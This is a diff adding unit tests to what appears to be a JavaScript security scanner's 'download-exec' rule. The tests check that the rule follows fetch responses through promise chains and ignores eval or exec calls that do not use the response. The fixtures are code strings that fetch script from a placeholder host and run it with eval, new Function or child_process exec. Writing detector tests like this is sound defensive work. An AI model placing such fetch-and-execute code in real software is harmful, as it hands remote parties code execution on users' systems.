@@ -159,6 +159,25 @@ describe('correlation: download-exec', () => {
     assert.equal(only('download-exec', code)[0].severity, 'high');
   });
 
+  it('follows a response through promise chains: .then callbacks, a chain awaited, .catch', () => {
+    const code = [
+      'function a(){fetch("https://x.example.com/a.js").then(r=>r.text()).then(code=>eval(code))}',
+      'function b(){return fetch("https://x.example.com/b.js").then(function(res){return res.text()}).then(function(src){new Function(src)()})}',
+      'async function c(){const s=await fetch("https://x.example.com/c.js").then(r=>r.text()).catch(()=>"");eval(s)}',
+      'const cp=require("child_process");function d(){fetch("https://x.example.com/cmd").then(r=>r.json()).then(j=>cp.exec(j.command))}',
+    ].join('\n');
+    assert.deepEqual(only('download-exec', code).map(f => `${f.line} ${f.severity}`), ['1 high', '2 high', '3 high', '4 high']);
+  });
+
+  it('does not take what a .then callback does with its own values for the response', () => {
+    const code = [
+      'const cp=require("child_process");function a(){fetch("https://x.example.com/v").then(r=>r.json()).then(()=>cp.exec(process.env.HOOK))}',
+      'function b(){fetch("https://x.example.com/v").then(r=>r.ok).then(ok=>{const code=localStorage.getItem("c");if(ok)eval(code)})}',
+      'function c(){fetch("https://x.example.com/v").finally(()=>eval(globalThis.pending))}',
+    ].join('\n');
+    assert.deepEqual(only('download-exec', code).map(f => `${f.line} ${f.severity} ${f.message}`), []);
+  });
+
   it('calls a self-update that installs the version a registry names medium, not high (seen in a real assistant)', () => {
     const code = 'const{execFileSync:x}=require("child_process");async function latest(){const r=await fetch("https://registry.npmjs.org/tool");return (await r.json())["dist-tags"].latest}\nasync function up(){const v=await latest();x("npm",["install","-g",`tool@${v}`])}';
     const found = only('download-exec', code);
